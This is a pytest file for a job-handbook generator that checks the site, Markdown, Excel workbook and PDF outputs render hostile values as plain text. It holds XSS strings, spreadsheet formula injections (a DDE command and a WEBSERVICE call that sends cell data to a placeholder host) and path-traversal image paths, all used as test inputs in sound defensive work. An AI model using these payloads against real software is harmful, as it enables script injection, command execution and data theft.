"""No output format carries a value as markup, formula or field code (issue 14).

Hostile values go through the real writers and are read back as a reader meets them:
the site built by MkDocs and opened in Chromium, Markdown as the site's extensions
render it, the goal workbook read back by openpyxl (and recalculated by LibreOffice in
test_print.py), PDFs made by WeasyPrint and read by pdftotext and pdfimages. The rule
these tests hold every format to is written at the top of generator/render/escape.py.
"""

from __future__ import annotations

import html.parser
import io
import json
import re
import subprocess
import time
from collections.abc import Iterator
from pathlib import Path

import markdown
import pytest
import yaml
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import load_workbook
from PIL import Image
from playwright.sync_api import Browser, Page

from bench.search import serve
from generator.check import load_handbook
from generator.cli import main
from generator.outputs.pdf import PdfWriter
from generator.outputs.xlsx import goal_workbook
from generator.read.labels import load_labels
from generator.read.model import Role
from generator.read.periods import parse_review_period
from generator.read.project import open_project
from generator.render.escape import escape_markdown, md
from tests.conftest import MINI_ROLES, REPO, TODAY, make_project
from tests.scoring import level_points, points, weighted
from tests.test_print import recalculated

LABELS = load_labels(REPO / "templates", "zh-CN")
SITE_NAME = "岗位手册"

#: Issue 14's stored XSS: Material printed the page title through striptags, which
#: unescaped it into these tags.
SCRIPT_TITLE = "</title><script>alert(document.domain)</script><title>"
#: Each starts a block in Markdown or one of its common extensions.
BLOCKS = [
    '!!! danger "x"', '??? note "细节"', "# 标题", "> 引用", "- 列表", "+ 列表", "1. 列表",
    "1) 列表", "| a | b |", "---", "***", "___", ": 定义", "::: note", "/// note",
    '=== "标签"', "~~~", "```", "$$", "<div>块</div>", "[^1]: 脚注", "*[HTML]: 缩写",
    "[a]: http://x", "{: .c}", "- [ ] 任务",
]  # fmt: skip


def run(root: Path, *args: str):  # type: ignore[no-untyped-def]
    return CliRunner().invoke(main, ["--project", str(root), *args])


def team_lead(**replacements: str) -> str:
    """The mini team lead's role file with lines replaced (``old line=new line``)."""
    text = (MINI_ROLES / "team-lead.yaml").read_text(encoding="utf-8")
    for old, new in replacements.items():
        assert text.count(old) == 1, old
        text = text.replace(old, new)
    return text


# --- the site: a real MkDocs build, opened in Chromium ---------------------------------


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    role = team_lead(**{
        "title: 销售组长": f"title: {json.dumps(SCRIPT_TITLE)}",
        "purpose: 带领销售小组完成月度销售目标，维护重点客户关系。": "purpose: '!!! danger \"x\"'",
        "authority: [小组内客户分配建议权]": f"authority: {json.dumps(BLOCKS, ensure_ascii=False)}",
        "name: 月度销售额": 'name: "<img src=x onerror=alert(document.domain)>"',
    })  # fmt: skip
    root = make_project(tmp_path_factory.mktemp("escaping") / "p", {"team-lead.yaml": role})
    result = run(root, "build", "--no-print")
    assert result.exit_code == 0, result.stderr
    return root / "site"


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(locale="zh-CN")
    yield context.new_page()
    context.close()


HEADING = """() => {
  const h1 = document.querySelector("article h1").cloneNode(true);
  h1.querySelectorAll(".headerlink").forEach(a => a.remove());
  return h1.textContent;
}"""
INJECTED = """() => document.querySelectorAll('img[src="x"]').length
  + [...document.querySelectorAll("script")].filter(s => s.textContent.includes("alert")).length"""


@pytest.mark.slow
def test_a_role_title_is_text_on_every_page(site: Path, page: Page) -> None:
    """No page runs script from a role's values; the title reads as written in the
    browser's title bar and in the page's heading."""
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    role_pages = sorted((site / "roles/team-lead").rglob("index.html"))
    assert len(role_pages) == 5
    for path in sorted(site.rglob("*.html")):
        page.goto(path.as_uri())
        assert page.evaluate(INJECTED) == 0, path
        if path in role_pages:
            heading = page.evaluate(HEADING)
            assert heading.startswith(SCRIPT_TITLE), path
            assert page.title() == f"{heading} - {SITE_NAME}", path
    assert dialogs == []


@pytest.mark.slow
def test_search_results_show_a_title_as_text(site: Path, page: Page) -> None:
    """The served site's search (Pagefind) puts titles into the result list as HTML."""
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with serve(site) as server:
        page.goto(server.url + "?q=alert")
        titles = page.locator(".md-search-result__item h1")
        titles.first.wait_for(timeout=60_000)
        assert (titles.first.text_content() or "").startswith(SCRIPT_TITLE)
        assert page.evaluate(INJECTED) == 0
    assert dialogs == []


@pytest.mark.slow
def test_markdown_blocks_at_the_start_of_a_value_show_as_written(site: Path, page: Page) -> None:
    page.goto((site / "roles/team-lead/job-description/index.html").as_uri())
    assert page.locator("article .admonition").count() == 0
    assert page.locator("article p", has_text='!!! danger "x"').count() == 1
    # The authority list, one value an item: each item shows its value, and nothing else.
    items = page.evaluate(
        """(label) => [...[...document.querySelectorAll("article h2")]
             .find(h => h.textContent.startsWith(label))
             .nextElementSibling.children].map(li => [li.tagName, li.innerHTML, li.textContent])""",
        LABELS["job"]["authority"],
    )
    assert [tag for tag, _, _ in items] == ["LI"] * len(BLOCKS)
    assert [text for _, _, text in items] == BLOCKS
    assert not any("<" in inner for _, inner, _ in items)  # no element inside an item


# --- Markdown: any text through md() renders as that text ------------------------------

#: The site's extensions (mkdocs.yml) and the block extensions sites commonly add.
EXTENSIONS = [
    *("tables", "attr_list", "md_in_html", "admonition", "toc", "pymdownx.tasklist"),
    *("pymdownx.details", "pymdownx.superfences", "pymdownx.tabbed", "pymdownx.blocks.admonition"),
    *("def_list", "footnotes", "abbr"),
]


class _Text(html.parser.HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.text, self.tags = "", set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.text += "\n" if tag == "br" else ""

    def handle_data(self, data: str) -> None:
        self.text += data


def rendered(value: str) -> tuple[str, set[str]]:
    """The text and the elements of ``value`` escaped and rendered as the site does."""
    parser = _Text()
    parser.feed(markdown.Markdown(extensions=EXTENSIONS).convert(md(value)))
    return parser.text, parser.tags


def words(text: str) -> list[str]:
    return text.split()


#: Pieces of hostile text: Markdown's special characters, block markers, text, white space.
PIECES = [*"!?:~/$#+-*_=>|<`[]{}()&\\\"'.1 ", "!!!", "???", "///", ":::", "~~~", "$$", "```"]
#: Text of those pieces, letters and white space, most often starting with a piece.
hostile_text = st.tuples(
    st.sampled_from(["", *PIECES]),
    st.lists(st.sampled_from([*PIECES, "a", "销", "\t", "\n", "    "])).map("".join),
).map("".join)


@settings(max_examples=1500, deadline=None, database=None)
@given(hostile_text)
def test_any_text_renders_as_itself(value: str) -> None:
    """Whatever a value holds, it shows as its own text: one paragraph, nothing else."""
    text, tags = rendered(value)
    assert tags <= {"p", "br"}, value
    assert words(text) == words(value)
    assert md(value) == escape_markdown(value)  # the shortcut for plain text agrees


@pytest.mark.parametrize("value", BLOCKS)
def test_each_block_marker_renders_as_text(value: str) -> None:
    text, tags = rendered(value)
    assert (text, tags) == (value, {"p"})


# --- the goal workbook: text stays text ------------------------------------------------

#: Issue 14's formulas, each in a field of a goal.
FORMULAS = {
    "name": "=cmd|' /C calc'!A0",
    "metric": "=2+2",  # written "\t=2+2": values are stripped
    "unit": "=A1",
    "text": '=WEBSERVICE("http://x/?"&B6)',
}
#: Rating levels that broke the list check or are formulas; the first is the target level.
LEVELS = ["=1+1", "好,很好", 'say "hi"', "+9", "-9", "@SUM(1)"]


def formula_role(tmp_path: Path) -> Role:
    """The mini team lead with formulas in its goals' text, a target of 0, and two
    qualitative goals rated on odd levels."""
    data = yaml.safe_load((MINI_ROLES / "team-lead.yaml").read_text(encoding="utf-8"))
    quantitative, qualitative = data["goals"]
    del quantitative["baseline"], quantitative["stretch_target"]
    quantitative.update(name=FORMULAS["name"], metric="\t=2+2", unit=FORMULAS["unit"], target=0)
    quantitative["scoring"]["text"] = FORMULAS["text"]
    qualitative.update(target_level=LEVELS[0], weight=15)
    qualitative["rating_scale"] = [
        {"level": level, "score_percent": 120 - 10 * n, "description": f"等级{n}"}
        for n, level in enumerate(LEVELS)
    ]
    data["goals"].append({**qualitative, "id": "G3"})
    role = json.dumps(data, ensure_ascii=False, default=str)  # JSON is YAML
    handbook = load_handbook(
        open_project(make_project(tmp_path / "p", {"team-lead.yaml": role})), today=TODAY
    )
    return handbook.role("team-lead")


def test_workbook_stores_text_as_text_never_as_formula(tmp_path: Path) -> None:
    role = formula_role(tmp_path)
    labels = load_labels(REPO / "templates", "zh-CN")
    person = '=HYPERLINK("http://x","点我")'
    quarter = parse_review_period("2027-Q1")
    sheet = load_workbook(io.BytesIO(goal_workbook(role, labels, quarter, person))).worksheets[0]
    formulas = {
        c.coordinate: c.value for row in sheet.iter_rows() for c in row if c.data_type == "f"
    }
    # Only the workbook's own formulas: the quarter's actual of the monthly goal (from its
    # months), achievement, points and weighted score, the totals.
    assert {re.sub(r"\d", "", cell) for cell in formulas} == {"H", "I", "J", "K", "F"}
    assert {cell for cell in formulas if cell.startswith(("F", "H", "I"))} == {"F8", "H5", "I5"}
    for formula in formulas.values():
        # Cell references, numbers and functions; no text but the empty text "".
        assert re.fullmatch(r'[=A-Z0-9$(),.:<>*/+"\-]*', str(formula)), formula
        assert '"' not in str(formula).replace('""', ""), formula
    texts = {c.value: c for row in sheet.iter_rows() for c in row if c.data_type == "s"}
    for value in [*FORMULAS.values(), *LEVELS, f"{labels['print']['person']}：{person}"]:
        assert value in texts, value
        assert texts[value].quotePrefix, value  # stays text when edited in Excel
    # The rating is chosen from cells holding the levels, not from a list written in the check.
    checks = [dv for dv in sheet.data_validations.dataValidation if dv.type == "list"]
    assert [str(check.sqref) for check in checks] == ["H6", "H7"]
    for check in checks:
        first, last = check.formula1.replace("$", "").split(":")
        assert [c.value for c in sheet[first:last][0]] == LEVELS


@pytest.mark.slow
def test_workbook_of_odd_values_recalculates_without_errors(tmp_path: Path) -> None:
    """LibreOffice shows the formulas of issue 14 as text, scores a target of 0 as
    scoring.py does (no #DIV/0!) and ratings with a comma or quotes by their level."""
    role = formula_role(tmp_path)
    book = load_workbook(io.BytesIO(goal_workbook(role, LABELS, parse_review_period("2027-Q1"))))
    sheet = book.worksheets[0]
    for column in (12, 13, 14):  # the monthly goal: 50 in each month of the quarter
        sheet.cell(row=5, column=column, value=50)
    for row, rating in ((6, "好,很好"), (7, 'say "hi"')):
        sheet.cell(row=row, column=8, value=rating)
    rows = recalculated(book, tmp_path)
    assert not [cell for row in rows for cell in row if cell.startswith(("#", "Err:"))]
    g1, g2, g3 = role.goals
    assert rows[4][1:4] == [FORMULAS["name"], FORMULAS["metric"], FORMULAS["unit"]]
    assert rows[4][6] == FORMULAS["text"]
    expected = [
        weighted(g1, points(g1, 50)),
        weighted(g2, level_points(g2, "好,很好")),
        weighted(g3, level_points(g3, 'say "hi"')),
    ]
    assert [float(row[10]) for row in rows[4:7]] == pytest.approx(expected, abs=0.01)
    assert float(rows[7][10]) == pytest.approx(sum(expected), abs=0.01)


# --- printable sheets -------------------------------------------------------------------


def pdf_text(path: Path) -> str:
    """The PDF's text without white space and break opportunities (lines wrap anywhere)."""
    out = subprocess.run(["pdftotext", str(path), "-"], capture_output=True, text=True, check=True)
    return re.sub(r"[\s\u200b]+", "", out.stdout)


@pytest.mark.slow
def test_a_long_unbroken_word_prints_whole(tmp_path: Path) -> None:
    """A word longer than a line wraps, in a paragraph and in a table cell, and none of it
    is cut off (values may be 1,000 characters long)."""
    word = "".join(f"{n:04d}" for n in range(250))[:999]
    role = team_lead(**{
        "purpose: 带领销售小组完成月度销售目标，维护重点客户关系。": f"purpose: P{word}",
        "description: 每月开发有效新客户不少于 5 家，并在 CRM 中建立客户档案。":
            f"description: D{word}",
    })  # fmt: skip
    root = make_project(tmp_path / "p", {"team-lead.yaml": role})
    out = tmp_path / "job.pdf"
    result = run(root, "print", "team-lead", "job-description", "--out", str(out))
    assert result.exit_code == 0, result.stderr
    text = pdf_text(out)
    assert f"P{word}" in text
    assert f"D{word}" in text


#: Ways to the image beside the print folder: escaped, plain, absolute, through a link.
OUTSIDE = [
    "%2e%2e/secret.png", "%2E%2E/secret.png", "../secret.png", "%2e%2e%2fsecret.png",
    "sub/%2e%2e/%2e%2e/secret.png", "sub/../../secret.png", "SECRET_URI", "link.png",
]  # fmt: skip


def images_in(writer: PdfWriter, html: str, tmp_path: Path) -> int:
    pdf = tmp_path / "images.pdf"
    pdf.write_bytes(writer.pdf(writer.render(html, "test"), name="test"))
    listing = subprocess.run(
        ["pdfimages", "-list", str(pdf)], capture_output=True, text=True, check=True
    ).stdout
    return len(listing.splitlines()) - 2  # two heading lines


@pytest.fixture
def print_folder(tmp_path: Path) -> Path:
    """A print templates folder with an image, beside a secret image it must not load."""
    folder = tmp_path / "print"
    (folder / "sub").mkdir(parents=True)
    Image.new("RGB", (4, 4), "red").save(folder / "inside.png")
    Image.new("RGB", (4, 4), "blue").save(tmp_path / "secret.png")
    (folder / "link.png").symlink_to(tmp_path / "secret.png")
    return folder


@pytest.mark.slow
@pytest.mark.parametrize("src", OUTSIDE)
def test_pdfs_load_no_file_from_outside_the_print_folder(
    print_folder: Path, tmp_path: Path, src: str
) -> None:
    src = src.replace("SECRET_URI", (tmp_path / "secret.png").as_uri())
    writer = PdfWriter(print_folder)
    assert images_in(writer, '<img src="inside.png">', tmp_path) == 1  # loads what it may
    assert images_in(writer, f'<img src="{src}">', tmp_path) == 0


def test_every_printable_document_prints_values_as_text(tmp_path: Path) -> None:
    """The agreement, the review sheet, the scorecard and the rest: a value that is
    markup in HTML is printed as its characters (WeasyPrint would lay the tags out)."""
    from generator.outputs.printing import PrintTemplates, SheetRequest
    from generator.render.assessment import SheetPeriods
    from generator.render.sheets import role_sheets

    tag = "<img src=x onerror=alert(1)><b>粗体</b>"
    role = team_lead(**{
        "    name: 月度销售额": f"    name: {json.dumps(tag)}",
        "purpose: 带领销售小组完成月度销售目标，维护重点客户关系。": f"purpose: {json.dumps(tag)}",
        "title: 销售组长": f"title: {json.dumps(SCRIPT_TITLE)}",
    })  # fmt: skip
    root = make_project(tmp_path / "p", {"team-lead.yaml": role})
    handbook = load_handbook(open_project(root), today=TODAY)
    lead = handbook.role("team-lead")
    templates = PrintTemplates(handbook)
    periods = SheetPeriods.of(TODAY, "quarterly")
    kinds = set()
    for sheet in role_sheets(lead):
        if sheet.kind == "pack":
            continue
        html = templates.html(SheetRequest(lead, sheet, review_period=periods.period(sheet)))
        assert "<img" not in html and "<b>" not in html and "<script>" not in html, sheet
        if sheet.kind in ("job-description", "agreement", "goals"):  # (they show it)
            assert "&lt;img src=x onerror=alert(1)&gt;" in html, sheet
        kinds.add(sheet.kind)
    assert {"job-description", "agreement", "goals"} <= kinds


def test_the_same_workbook_is_the_same_bytes(tmp_path: Path) -> None:
    """No time of writing in the workbook: a build that changed nothing writes nothing."""
    role = formula_role(tmp_path)
    quarter = parse_review_period("2027-Q1")
    first = goal_workbook(role, LABELS, quarter)
    time.sleep(1.1)  # (zip members and properties would carry the second)
    assert goal_workbook(role, LABELS, quarter) == first
